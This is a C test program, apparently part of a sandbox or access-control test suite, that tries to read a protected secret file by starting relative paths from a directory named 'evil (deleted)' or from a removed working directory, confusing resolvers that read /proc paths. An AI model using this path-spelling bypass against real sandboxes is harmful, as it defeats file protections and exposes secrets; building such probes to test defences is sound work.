/* path_deleted: start a relative path in a directory whose name /proc shows as " (deleted)".
 *
 *   path_deleted MODE SECRET WORK
 *
 * /proc/PID/cwd and /proc/PID/fd/N end in " (deleted)" for a removed directory -- and for a
 * directory that is simply *named* "x (deleted)".  A resolver that takes such a start for a
 * pseudo path cannot match rules against what the kernel then opens.
 *
 * MODE: named      mkdir WORK/"evil (deleted)", chdir into it, open ../../secd/secret.txt
 *       named_fd   the same through openat(dirfd of that directory, ...)
 *       rmdir_cwd  mkdir WORK/gone, chdir into it, rmdir it, open ../../secd/secret.txt
 *                  (".." still works from a removed directory)
 *       rmdir_fd   the same with a dirfd of the removed directory
 * Class 1 (path spellings).
 */
#include "attack.h"

int main(int argc, char **argv) {
    if (argc < 4)
        usage("path_deleted MODE SECRET WORK");
    const char *mode = argv[1], *work = argv[3];
    const char *rel = "../../secd/secret.txt";
    char d[4096];
    if (!strcmp(mode, "named") || !strcmp(mode, "named_fd")) {
        snprintf(d, sizeof d, "%s/evil (deleted)", work);
        if (mkdir(d, 0755) < 0)
            blocked("mkdir: %s", ename(errno));
        if (!strcmp(mode, "named")) {
            if (chdir(d) < 0)
                blocked("chdir: %s", ename(errno));
            try_open("../../secd/secret.txt from a cwd named '(deleted)'", rel);
        } else {
            int dfd = open(d, O_RDONLY | O_DIRECTORY);
            try_open_at(dfd, "openat(fd of a dir named '(deleted)', ../../secd/secret.txt)",
                        rel, O_RDONLY);
        }
    } else if (!strcmp(mode, "rmdir_cwd") || !strcmp(mode, "rmdir_fd")) {
        snprintf(d, sizeof d, "%s/gone", work);
        if (mkdir(d, 0755) < 0)
            blocked("mkdir: %s", ename(errno));
        int dfd = open(d, O_RDONLY | O_DIRECTORY);
        if (!strcmp(mode, "rmdir_cwd") && chdir(d) < 0)
            blocked("chdir: %s", ename(errno));
        if (rmdir(d) < 0)
            blocked("rmdir: %s", ename(errno));
        if (!strcmp(mode, "rmdir_cwd"))
            try_open("../../secd/secret.txt from a removed cwd", rel);
        else
            try_open_at(dfd, "openat(fd of a removed dir, ../../secd/secret.txt)", rel, O_RDONLY);
    } else {
        usage("MODE: named named_fd rmdir_cwd rmdir_fd");
    }
    tally_done();
}
